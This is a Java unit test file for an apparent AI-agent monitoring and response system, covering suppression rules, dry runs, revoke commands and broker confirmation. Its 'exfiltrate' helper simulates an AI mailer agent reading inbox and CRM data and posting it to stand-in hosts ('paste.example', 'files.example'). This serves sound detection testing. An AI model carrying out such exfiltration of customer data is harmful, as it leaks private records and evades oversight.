package io.agentwatch.topology;

import static io.agentwatch.testing.Events.MAILER;
import static io.agentwatch.testing.Events.crmLookup;
import static io.agentwatch.testing.Events.listFolders;
import static io.agentwatch.testing.Events.mailerToken;
import static io.agentwatch.testing.Events.readInbox;
import static io.agentwatch.testing.Events.sendTo;
import static org.assertj.core.api.Assertions.assertThat;

import io.agentwatch.avro.Action;
import io.agentwatch.avro.Disposition;
import io.agentwatch.avro.Finding;
import io.agentwatch.avro.Operation;
import io.agentwatch.avro.RevokeCommand;
import io.agentwatch.avro.Sensitivity;
import io.agentwatch.avro.Severity;
import io.agentwatch.config.AgentwatchConfig;
import io.agentwatch.replay.Replayer;
import io.agentwatch.respond.Ids;
import io.agentwatch.respond.Suppressions;
import io.agentwatch.testing.Events;
import io.agentwatch.testing.MonitorHarness;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ResponseTopologyTest {

    /** An ACTIVE mailer's session that reads the CRM and posts it to a paste site; returns the send's outputs. */
    private static List<Replayer.Output> exfiltrate(MonitorHarness h, String session, String token) {
        h.issue(mailerToken(token, session).setBoundaries(null));
        h.call(readInbox(session, token));
        h.call(crmLookup(session, token));
        return h.call(sendTo(session, token, "http_post", "https://paste.example/" + session, "paste.example")
                .setEventId(session + "-send"));
    }

    @Test
    void shouldPublishAFindingThatASuppressionRuleMatchesWithActionNone() {
        // given a rule for the mailer's known-noisy archiving tool, in the archive's own boundary
        try (MonitorHarness h = MonitorHarness.create(Map.of(), Suppressions.of(List.of(new Suppressions.Rule(
                MAILER, "archive_*", "mail-archive", null, "drift.*", "archiving is being rolled out"))))) {
            h.withBenignHistory();
            h.issue(Events.token(MAILER, "t-x", "s-x", Events.MAILER_SCOPES, null));

            // when the mailer archives confidential mail into the archive (HIGH drift otherwise: a
            // first write on confidential data, in a new boundary), then labels it there with
            // another new tool (INTERNAL labels: MEDIUM)
            List<Replayer.Output> suppressed = h.call(Events.call(MAILER, "s-x", "t-x", "archive_email",
                    "mailbox:support", "mail-archive", null).setOperation(Operation.WRITE)
                    .setSensitivity(Sensitivity.CONFIDENTIAL));
            List<Replayer.Output> notSuppressed = h.call(Events.call(MAILER, "s-x", "t-x", "label_email",
                    "mailbox:support", "mail-archive", null).setOperation(Operation.WRITE)
                    .setSensitivity(Sensitivity.INTERNAL));

            // then
            assertThat(MonitorHarness.commandsIn(suppressed)).isEmpty();
            assertThat(MonitorHarness.findingsIn(suppressed)).singleElement().satisfies(f -> {
                assertThat(f.getRule()).isEqualTo("drift.high_impact");
                assertThat(f.getAction()).isEqualTo(Action.NONE);
                assertThat(f.getDisposition()).isEqualTo(Disposition.SUPPRESSED);
                assertThat(f.getEvidence().getNotes()).contains("suppressed: archiving is being rolled out");
            });
            assertThat(MonitorHarness.findingsIn(notSuppressed)).extracting(Finding::getSeverity)
                    .containsExactly(Severity.MEDIUM);
            assertThat(h.session(MAILER, "s-x").response().isLearnable()).as("a suppressed HIGH does not block learning")
                    .isTrue();
        }
    }

    @Test
    void shouldPublishTheFindingButNoCommandInDryRun() {
        // given
        try (MonitorHarness h = MonitorHarness.create(Map.of(AgentwatchConfig.RESPONSE_DRY_RUN, "true"))) {
            h.withBenignHistory();

            // when
            List<Replayer.Output> atSend = exfiltrate(h, "s-x", "t-x");

            // then the chain finding says what was done (an alert) and what would have been
            assertThat(MonitorHarness.findingsIn(atSend)).anySatisfy(f -> {
                assertThat(f.getDetector()).isEqualTo("CROSS_BOUNDARY");
                assertThat(f.getAction()).isEqualTo(Action.ALERT);
                assertThat(f.getDisposition()).isEqualTo(Disposition.DRY_RUN);
                assertThat(f.getEvidence().getNotes())
                        .contains("dry run: REVOKE_SESSION decided, no revoke command published");
            });
            assertThat(h.commands()).isEmpty();
            assertThat(h.token(MAILER, "t-x").commandId()).isNull();
        }
    }

    @Test
    void shouldPublishOneCommandPerIncidentWithAnIdThatDependsOnlyOnTheIncident() {
        // given two independent runs of the same trace
        String first;
        String second;
        List<RevokeCommand> commands;
        try (MonitorHarness h = MonitorHarness.create()) {
            h.withBenignHistory();

            // when the session exfiltrates three times, and a later session once more
            exfiltrate(h, "s-1", "t-1");
            h.call(sendTo("s-1", "t-1", "http_post", "https://paste.example/again", "paste.example"));
            h.call(sendTo("s-1", "t-1", "upload_file", "https://files.example/drop", "files.example"));
            h.advance(Duration.ofHours(2));
            exfiltrate(h, "s-2", "t-2");
            commands = h.commands();
            first = commands.get(0).getCommandId();
        }
        try (MonitorHarness h = MonitorHarness.create()) {
            h.withBenignHistory();
            exfiltrate(h, "s-1", "t-1");
            second = h.commands().get(0).getCommandId();
        }

        // then one command per session, the same id on replay, a new id for the new session
        assertThat(commands).extracting(RevokeCommand::getSessionId).containsExactly("s-1", "s-2");
        assertThat(commands).extracting(RevokeCommand::getTriggerEventId).containsExactly("s-1-send", "s-2-send");
        assertThat(second).isEqualTo(first).isEqualTo(Ids.hash("rc-", MAILER, "SESSION", "s-1"));
        assertThat(commands.get(1).getCommandId()).isNotEqualTo(first);
    }

    @Test
    void shouldReportARevocationTheBrokerDidNotConfirmInTime() {
        // given a session revoked at the send
        try (MonitorHarness h = MonitorHarness.create()) {
            h.withBenignHistory();
            exfiltrate(h, "s-x", "t-x");
            String commandId = h.commands().get(0).getCommandId();
            assertThat(h.token(MAILER, "t-x").awaitingConfirmation()).isTrue();

            // when stream time passes the confirmation timeout (2 min) with no TokenRevoked
            h.advance(Duration.ofMinutes(3));
            List<Replayer.Output> out = h.call(Events.call(Events.BILLING, "s-b", null, "list_invoices",
                    "invoices:open", "finance", null));

            // then a RESPONSE finding from the sweep, not tied to any call, and no new command
            assertThat(MonitorHarness.findingsIn(out)).singleElement().satisfies(f -> {
                assertThat(f.getDetector()).isEqualTo("RESPONSE");
                assertThat(f.getRule()).isEqualTo("revoke.unconfirmed");
                assertThat(f.getSeverity()).isEqualTo(Severity.HIGH);
                assertThat(f.getAction()).isEqualTo(Action.ALERT);
                assertThat(f.getAgentId()).isEqualTo(MAILER);
                assertThat(f.getSessionId()).isEqualTo("s-x");
                assertThat(f.getEvidence().getTokenIds()).containsExactly("t-x");
                assertThat(f.getSummary()).contains(commandId);
            });
            assertThat(out).allSatisfy(o -> assertThat(o.inputEventId()).isNull());
            assertThat(h.commands()).hasSize(1);
            assertThat(h.token(MAILER, "t-x").unconfirmedReported()).isTrue();

            // and only once
            h.advance(Duration.ofMinutes(5));
            assertThat(h.call(Events.call(Events.BILLING, "s-b", null, "list_invoices", "invoices:open", "finance",
                    null))).isEmpty();
        }
    }

    @Test
    void shouldNotReportARevocationTheBrokerConfirmed() {
        // given
        try (MonitorHarness h = MonitorHarness.create()) {
            h.withBenignHistory();
            exfiltrate(h, "s-x", "t-x");

            // when the broker confirms within a minute, and time passes
            h.brokerRevokes(MAILER, "t-x");
            h.advance(Duration.ofMinutes(10));
            h.call(Events.call(Events.BILLING, "s-b", null, "list_invoices", "invoices:open", "finance", null));

            // then
            assertThat(h.findings("revoke.unconfirmed")).isEmpty();
            assertThat(h.token(MAILER, "t-x").awaitingConfirmation()).isFalse();
        }
    }

    @Test
    void shouldFlagALaterCallWithATokenWhoseRevocationWasOrderedAndThenConfirmed() {
        // given a session revoked at the send
        try (MonitorHarness h = MonitorHarness.create()) {
            h.withBenignHistory();
            exfiltrate(h, "s-x", "t-x");

            // when the agent goes on before the broker acts, and again after
            List<Replayer.Output> beforeConfirmation = h.call(listFolders("s-x", "t-x"));
            h.brokerRevokes(MAILER, "t-x");
            List<Replayer.Output> afterConfirmation = h.call(crmLookup("s-x", "t-x").setEventId("e-after"));

            // then
            assertThat(MonitorHarness.findingsIn(beforeConfirmation)).singleElement().satisfies(f -> {
                assertThat(f.getRule()).isEqualTo("token.revocation_ordered");
                assertThat(f.getSeverity()).isEqualTo(Severity.MEDIUM);
            });
            assertThat(MonitorHarness.findingsIn(afterConfirmation)).singleElement().satisfies(f -> {
                assertThat(f.getRule()).isEqualTo("token.revoked");
                assertThat(f.getSeverity()).isEqualTo(Severity.CRITICAL);
                assertThat(f.getEvidence().getEventIds()).containsExactly("e-after");
            });
            // The confirmed revocation ended the session, so its state (and the record of the
            // command) is gone: a repeat command may follow, with the same id for the broker to drop.
            assertThat(h.commands()).extracting(RevokeCommand::getCommandId).containsOnly(
                    Ids.hash("rc-", MAILER, "SESSION", "s-x"));
        }
    }
}
